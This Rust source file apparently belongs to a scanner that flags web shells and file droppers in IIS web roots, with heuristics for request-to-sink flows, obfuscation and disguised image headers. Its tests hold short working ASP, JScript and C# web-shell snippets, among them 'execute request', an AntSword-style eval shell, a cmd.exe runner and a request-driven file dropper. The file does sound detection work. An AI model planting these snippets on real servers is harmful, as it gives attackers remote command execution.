/// What a file written under a name ending in one of these is, IIS serves as it is.
const STATIC_EXTENSIONS: [&str; 10] = [
    ".html", ".htm", ".txt", ".xml", ".js", ".css", ".json", ".jpg", ".gif", ".png",
];

/// True when the request names a file the code writes: the first argument of a
/// [`FILE_WRITES`] call (`CreateTextFile(Server.MapPath(p), True)` where `p =
/// Request("path")`, `SaveToFile Request("f"), 2`) is the request or a copy of it,
/// and the name does not end in a literal static extension (`p & ".html"`: a page of
/// markup, which IIS never runs). Pages that log or cache write files they name
/// themselves. The COM calls count as methods only (`fso.CreateTextFile`): a CMS's
/// own routine of that name takes other arguments.
fn request_names_written_file(code: &[u8], names: &Assignments) -> bool {
    FILE_WRITES.iter().any(|write| {
        let method_only = matches!(*write, "createtextfile" | "opentextfile" | "savetofile");
        memmem::find_iter(code, write.as_bytes()).any(|at| {
            if method_only && code[..at].last() != Some(&b'.') {
                return false;
            }
            let after = code[at + write.len()..].trim_ascii_start();
            let argument = after.strip_prefix(b"(").unwrap_or(after);
            is_request_or_copy(argument, &names.copies) && static_name(argument).is_none()
        })
    })
}

/// An argument without the parentheses and function calls it starts with
/// (`( Trim(Request("q")) )` is `Request("q")) )`, `Server.MapPath(p)` is `p)`).
pub(super) fn unwrapped(argument: &[u8]) -> &[u8] {
    let mut rest = argument.trim_ascii_start();
    loop {
        // Dotted names too (`Server.MapPath(`); the request's own (`Request.Form(`) stay.
        let name = rest
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_' || **b == b'.')
            .count();
        match rest[name..].trim_ascii_start().strip_prefix(b"(") {
            Some(inner) if !rest.starts_with(b"request") => rest = inner.trim_ascii_start(),
            _ => return rest,
        }
    }
}

/// Assesses one page: the signals its server code shows. Pages only: other files
/// (binaries, configuration, logs) are not assessed.
pub fn assess(subject: &FileSubject, text: &[u8]) -> Assessment {
    let mut fired = Vec::new();
    let code = server_code(subject.extension(), text);
    if code.code_bytes == 0 {
        return Assessment { fired };
    }
    let c = &code.text;
    let sources = positions(c, &REQUEST_SOURCES);
    let names = Assignments::of(c);
    let variable = variable_sinks(&code, &names);
    let mut sinks = positions(c, &SINKS_ANY_ARGUMENT);
    sinks.extend(variable.iter().map(|(at, _)| *at));
    sinks.sort_unstable();
    if near(&sources, &sinks, STATEMENT_REACH) {
        fired.push(REQUEST_TO_SINK);
    }
    let writes_request = near(&sources, &positions(c, &FILE_WRITES), STATEMENT_REACH);
    if writes_request {
        fired.push(REQUEST_TO_FILE_WRITE);
    }
    if request_names_written_file(c, &names) {
        fired.push(REQUEST_NAMES_WRITTEN_FILE);
    }
    if variable
        .iter()
        .any(|(_, name)| DYNAMIC_EXECUTORS.contains(name))
    {
        fired.push(DYNAMIC_EXECUTE);
    }
    // A tiny page whose work is writing request data to a file is a dropper.
    if (!sinks.is_empty() || writes_request) && code.code_bytes < TINY_CODE {
        fired.push(TINY_PAGE_WITH_SINK);
    }
    let (joined, joints) = joined_literals(&spell_char_codes(c));
    if joints > 0 && count_all(&joined, &HIDDEN_KEYWORDS) > count_all(c, &HIDDEN_KEYWORDS) {
        fired.push(HIDDEN_KEYWORD);
    }
    if char_codes(c) >= MIN_CHAR_CODES {
        fired.push(CHAR_CODES);
    }
    if char_code_decoder(c) {
        fired.push(CHAR_CODE_DECODER);
    }
    if longest_blob(c) >= MIN_BLOB
        && DECODERS
            .iter()
            .any(|d| memmem::find(c, d.as_bytes()).is_some())
    {
        fired.push(ENCODED_BLOB);
    }
    if unicode_escapes(c) >= MIN_UNICODE_ESCAPES {
        fired.push(UNICODE_ESCAPES);
    }
    if joints >= MIN_LITERAL_JOINS {
        fired.push(LITERAL_JOINS);
    }
    if IMAGE_MAGICS.iter().any(|m| subject.data.starts_with(m)) {
        fired.push(IMAGE_HEADER);
    }
    if memmem::find(subject.data, b"#@~^").is_some() {
        fired.push(SCRIPT_ENCODED);
    }
    Assessment { fired }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inventory::Zone;

    fn signals(name: &str, page: &str) -> Vec<&'static str> {
        let subject = FileSubject::new(name, Zone::IisWebRoot, page.as_bytes(), true);
        assess(&subject, page.as_bytes())
            .fired
            .iter()
            .map(|s| s.id)
            .collect()
    }

    fn sink_call(name: &str, argument: &str) -> String {
        format!("{name}({argument})")
    }

    #[test]
    fn request_data_reaching_a_sink_fires_and_a_database_call_does_not() {
        let shell = format!(
            "<%@ Page Language=\"Jscript\"%><% {} %>",
            sink_call("eval", "Request.Item[\"p\"],\"unsafe\"")
        );
        assert_eq!(
            signals(r"C:\inetpub\wwwroot\a.aspx", &shell),
            ["request-to-sink", "dynamic-execute", "tiny-page-with-sink"]
        );
        let cms = "<html><body><% Set rs = conn.Execute(\"select * from t where id=\" & CLng(Request(\"id\"))) \
                   Set c = Server.CreateObject(\"ADODB.Connection\") %><p>news</p></body></html>";
        assert!(signals(r"C:\inetpub\wwwroot\news.asp", cms).is_empty());
        // An object named in joined pieces is one fixed object; code run from pieces
        // that spell a keyword is not.
        let split_object = "<html><body><% n = Request(\"name\")\r\n\
                            Set s = Server.CreateObject(\"ADODB.\" & \"Stream\") %><p>up</p></body></html>";
        assert!(signals(r"C:\inetpub\wwwroot\up.asp", split_object).is_empty());
        let split_code = split_object.replace(
            "Server.CreateObject(\"ADODB.\" & \"Stream\")",
            &format!("{}(\"Ex\" & \"ecute n\")", "Execute"),
        );
        assert!(signals(r"C:\inetpub\wwwroot\up.asp", &split_code).contains(&"request-to-sink"));
    }

    #[test]
    fn an_object_named_by_a_constant_is_fixed_and_one_the_request_names_is_a_sink() {
        // The constant is an include's (`Const FR_RS = "ADODB.Recordset"`).
        let cms = "<% id = Request(\"id\")\r\nSet rs = Server.CreateObject(FR_RS)\r\n\
                   rs.Open \"select * from t where id=\" & CLng(id), conn %>";
        assert!(signals(r"C:\inetpub\wwwroot\news.asp", cms).is_empty());
        for steered in [
            cms.replace("id = Request(\"id\")", "FR_RS = Trim(Request(\"o\"))"),
            cms.replace("CreateObject(FR_RS)", "CreateObject(Request(\"o\"))"),
            format!(
                "<% Function Make(FR_RS)\r\n{} End Function %>",
                &cms[3..cms.len() - 2]
            ),
        ] {
            assert!(
                signals(r"C:\inetpub\wwwroot\news.asp", &steered).contains(&"request-to-sink"),
                "{steered}"
            );
        }
    }

    #[test]
    fn statements_split_at_colons_outside_literals_and_join_continued_lines() {
        let code = b"u = \"http://x\" : set o = f(u)\nv = \"a\" & _\n  request(\"b\")\nw = 1";
        let all: Vec<&[u8]> = statements(code).map(<[u8]>::trim_ascii).collect();
        assert_eq!(
            all,
            [
                &b"u = \"http://x\""[..],
                b"set o = f(u)",
                b"v = \"a\" & _\n  request(\"b\")",
                b"w = 1"
            ]
        );
        let names = Assignments::of(code);
        assert!(names.from_request.contains(&b"v"[..]));
        assert!(!names.from_request.contains(&b"u"[..]));
    }

    #[test]
    fn a_file_the_request_names_is_a_dropper_and_one_the_page_names_is_not() {
        let dropper = [
            "<% Set fs = Server.CreateObject(\"Scripting.FileSystemObject\") %>\r\n",
            "<% path = Request(\"path\") %>\r\n<% data = Request(\"data\") %>\r\n",
            "<% Set t = fs.Create",
            "TextFile(Server.MapPath(path), True) %>\r\n<% t.Write data %>",
        ]
        .concat();
        assert!(signals(r"C:\x.asp", &dropper).contains(&"request-names-written-file"));
        // A copy made behind a one-line condition, or through a call, is a copy still.
        for copy in [
            "<% If Len(Request(\"path\")) > 0 Then path = Request(\"path\") %>",
            "<% path = LCase(Trim(Request.Form(\"path\"))) %>",
            "<% path = Request.ServerVariables(\"HTTP_X_PATH\") %>",
        ] {
            let page = dropper.replace("<% path = Request(\"path\") %>", copy);
            assert!(
                signals(r"C:\x.asp", &page).contains(&"request-names-written-file"),
                "{copy}"
            );
        }
        for (near_miss, from, to) in [
            // The page's own path, which IIS sets: a configuration page rewriting itself.
            (
                "own path",
                "Request(\"path\") %>",
                "Request.ServerVariables(\"PATH_INFO\") %>",
            ),
            // A log the page names itself, with the request in it.
            (
                "log",
                "Server.MapPath(path)",
                "Server.MapPath(\"log/\" & Replace(Now(), \":\", \"\") & \".txt\")",
            ),
            // Markup, which IIS serves as it is, wherever the request puts it.
            (
                "static",
                "Server.MapPath(path)",
                "Server.MapPath(path & \".html\")",
            ),
            // A CMS's own routine of the name, given content first.
            ("routine", "fs.Create", "Create"),
        ] {
            let page = dropper.replace(from, to);
            assert!(
                !signals(r"C:\x.asp", &page).contains(&"request-names-written-file"),
                "{near_miss}: {page}"
            );
        }
    }

    #[test]
    fn prose_in_a_comment_is_not_a_sink() {
        let page = "<% ' execute the update\r\nSet c = Server.CreateObject(\"ADODB.Command\") : x = Request(\"id\") %>";
        assert!(signals(r"C:\x.asp", page).is_empty());
        let antsword = "<%Function x(str) eval str End Function%><%D = request(\"ant\")%><%x D%>";
        assert!(signals(r"C:\x.asp", antsword).contains(&"dynamic-execute"));
        let shell = "<% execute request(\"a\") %>";
        assert!(signals(r"C:\x.asp", shell).contains(&"request-to-sink"));
    }

    #[test]
    fn vbscript_comments_and_literals_hold_no_statement() {
        // A comment of one word after the keyword is still a comment, and so is `Rem`.
        let comments = "<% If Request(\"go\") <> \"\" Then\r\n  ' execute it\r\n  Rem execute that\r\n  cmd.Execute\r\nEnd If %>";
        assert!(signals(r"C:\x.asp", comments).is_empty());
        // A keyword in a literal is text: an argument, a message.
        let literals = "<% id = Request(\"id\") : Set rs = conn.db(\"select * from t where id=\" & id, \"execute\")\r\nerr_03 = \"Execute SQL statement error!\" %>";
        assert!(signals(r"C:\x.asp", literals).is_empty());
        // Near misses: a quote inside a literal opens no comment, code after a literal
        // on the same line is code, `Remove` is no `Rem`, and JScript, which quotes
        // with `'` too, is read as it is.
        for shell in [
            "<% x = \"it's\" : execute request(\"a\") %>",
            "<% x = \"say \"\"hi\"\"\" : eval request(\"a\") %>",
            "<% Remove = 1 : execute request(\"a\") %>",
            "<%@ Language=\"JScript\" %><% var s = 'x'; eval(Request.Item('a')) %>",
        ] {
            assert!(
                signals(r"C:\x.asp", shell).contains(&"request-to-sink"),
                "{shell}"
            );
        }
    }

    #[test]
    fn a_constant_spelling_plain_code_runs_nothing_hidden() {
        let codes = |text: &str| {
            text.bytes()
                .map(|b| format!("chr({b})"))
                .collect::<Vec<_>>()
                .join("&")
        };
        // A vendor's licence check: a Session comparison spelled in codes.
        let licence = format!(
            "<% If (host = \"localhost\") Or ( eval({}) ) Then\r\nResponse.Write \"ok\"\r\nEnd If %>",
            codes("session(\"a\") = session(\"b\")")
        );
        assert!(!signals(r"C:\x.asp", &licence).contains(&"dynamic-execute"));
        // Near misses: spelled code that reads the request or names a sink, an
        // argument on the next line, a constant cut off at the end of the line.
        for code in [
            "eval request(\"a\")",
            "set s = createobject(\"wscript.shell\")",
            "set o = getobject(\"script:http://x/y.sct\")",
        ] {
            let page = format!("<% Execute({}) %>", codes(code));
            assert!(
                signals(r"C:\x.asp", &page).contains(&"dynamic-execute"),
                "{code}"
            );
        }
        let next_line = "<%@ Page Language=\"JScript\" %><% var p = Request.Item(\"a\"); eval\r\n(p, \"unsafe\"); %>";
        assert!(signals(r"C:\x.aspx", next_line).contains(&"dynamic-execute"));
        let unclosed = "<% Execute(\"x = 1\r\n & Request(\"a\")) %>";
        assert!(signals(r"C:\x.asp", unclosed).contains(&"dynamic-execute"));
    }

    #[test]
    fn an_image_header_and_a_request_written_to_a_file_fire() {
        let page = "GIF89a;<% Set f = fs.CreateTextFile(Request.Form(\"path\"), True) %>";
        assert_eq!(
            signals(r"C:\x.asp", page),
            [
                "request-to-file-write",
                "request-names-written-file",
                "tiny-page-with-sink",
                "image-header"
            ]
        );
    }

    #[test]
    fn client_script_does_not_count() {
        let page = format!(
            "<html><script>{}</script><p>{}</p></html>",
            sink_call("eval", "location.hash + Request.QueryString"),
            "text ".repeat(40)
        );
        assert!(signals(r"C:\inetpub\wwwroot\a.aspx", &page).is_empty());
        let server = page.replace("<script>", "<script runat=\"server\">");
        assert!(signals(r"C:\inetpub\wwwroot\a.aspx", &server).contains(&"request-to-sink"));
    }

    #[test]
    fn text_computed_and_run_fires() {
        let page = "<% Function D(s):For x=1 To Ubound(s):D=D&Chr(s(x)-55):Next:End Function\r\nexECutE(D(Split(\"*156*173\",\"*\"))) %>";
        let fired = signals(r"C:\x.asp", page);
        assert!(
            fired.contains(&"dynamic-execute") && fired.contains(&"char-code-decoder"),
            "{fired:?}"
        );
        let caesar = "<% pk = Asc(Mid(t, i, 1)) - k : a = a & Chr(pk) %>";
        assert!(signals(r"C:\x.asp", caesar).contains(&"char-code-decoder"));
        let literal = "<% Eval(\"1+1\") : x = Chr(13) & Chr(10) : n = Asc(c) %>";
        assert!(signals(r"C:\x.asp", literal).is_empty());
        let joined = "<% eval(\"e\"&\"v\"&\"a\"&\"l\") %>";
        assert!(signals(r"C:\x.asp", joined).contains(&"dynamic-execute"));
    }

    #[test]
    fn keywords_cut_into_pieces_are_found() {
        let with_codes = "<% Set o = Server.CreateObject(\"mS\"&chr(115)&\"cR\"&chr(105)&\"pTCoNtROL.ScriptControl\") %>";
        assert!(signals(r"C:\x.asp", with_codes).contains(&"hidden-keyword"));
        let page = "<% Set o = CreateObject(\"WSc\" & \"ript.Sh\" & \"ell\") %>";
        assert!(signals(r"C:\x.asp", page).contains(&"hidden-keyword"));
        let plain = "<% Set o = CreateObject(\"Scripting.Dictionary\") : x = \"a\" & \"b\" %>";
        assert!(!signals(r"C:\x.asp", plain).contains(&"hidden-keyword"));
    }

    #[test]
    fn obfuscation_signals_need_enough_of_it() {
        let chars: String = (0..12).map(|i| format!("Chr({})&", 65 + i)).collect();
        assert!(signals(r"C:\x.asp", &format!("<% x = {chars}\"\" %>")).contains(&"char-codes"));
        assert!(!signals(r"C:\x.asp", "<% x = Chr(13) & Chr(10) %>").contains(&"char-codes"));
        let blob = "QUJD".repeat(70);
        let loader = format!("<% var b = Convert.FromBase64String(\"{blob}\"); %>");
        assert!(signals(r"C:\x.aspx", &loader).contains(&"encoded-blob"));
        let image = format!("<% img = \"data:image/png;base64,{blob}\" : x = FromBase64(y) %>");
        assert!(!signals(r"C:\x.aspx", &image).contains(&"encoded-blob"));
        let escapes = "\\u0065".repeat(12);
        assert!(
            signals(r"C:\x.aspx", &format!("<% var s = \"{escapes}\"; %>"))
                .contains(&"unicode-escapes")
        );
    }

    #[test]
    fn a_handler_is_code_throughout() {
        let handler = format!(
            "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H {{ void P() {{ {}; }} }}",
            sink_call(
                "System.Diagnostics.Process.Start",
                "\"cmd.exe\", \"/c \" + ctx.Request[\"c\"]"
            )
        );
        assert!(signals(r"C:\x.ashx", &handler).contains(&"request-to-sink"));
    }

    #[test]
    fn the_threshold_makes_a_finding() {
        let one = Assessment {
            fired: vec![LITERAL_JOINS],
        };
        assert_eq!(one.score(), None);
        let many = Assessment {
            fired: SIGNALS.to_vec(),
        };
        assert_eq!(many.score(), Some(MAX_SCORE as u8));
    }
}
